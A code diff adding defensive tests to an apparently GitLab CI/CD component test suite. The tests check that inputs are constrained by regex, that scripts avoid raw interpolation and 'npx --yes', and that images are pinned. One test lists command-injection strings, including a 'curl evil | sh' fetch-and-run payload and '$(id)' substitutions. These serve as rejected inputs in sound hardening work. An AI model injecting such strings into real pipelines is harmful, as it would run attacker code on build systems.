@@ -84,6 +84,33 @@ describe("the CI/CD components", () => {
       for (const input of used) expect(Object.keys(spec.spec.inputs), input).toContain(input);
     });
 
+    it(`${name}: constrains every text input with a regex or options`, () => {
+      const inputs = spec.spec.inputs as Record<
+        string,
+        { type?: string; regex?: string; options?: unknown[] }
+      >;
+      for (const [input, def] of Object.entries(inputs)) {
+        if (def.type === "boolean") continue;
+        expect(def.regex ?? def.options, input).toBeDefined();
+        if (!def.regex) continue;
+        const pattern = new RegExp(def.regex);
+        expect(pattern.test(String((def as { default?: unknown }).default)), input).toBe(true);
+        for (const attack of ['x"; curl evil | sh; "', "$(id)", "`id`", "a\nb", "x y;z"])
+          expect(pattern.test(attack), `${input} takes ${attack}`).toBe(false);
+      }
+    });
+
+    it(`${name}: lets inputs reach the script only through quoted variables`, () => {
+      const [job] = Object.values(jobs) as (Job & { script: string[] })[];
+      expect(job!.script.join("\n")).not.toContain("$[[");
+      expect(job!.script.join("\n")).not.toMatch(/npx\s+(--yes|-y)/);
+    });
+
+    it(`${name}: pins its image to a version or a digest`, () => {
+      const image = String((spec.spec.inputs.image as { default: string }).default);
+      expect(image).toMatch(/:\d+\.\d+\.\d+|@sha256:[0-9a-f]{64}$/);
+    });
+
     it(`${name}: has one job with rules`, () => {
       const [job] = Object.values(jobs);
       expect(Object.keys(jobs)).toHaveLength(1);
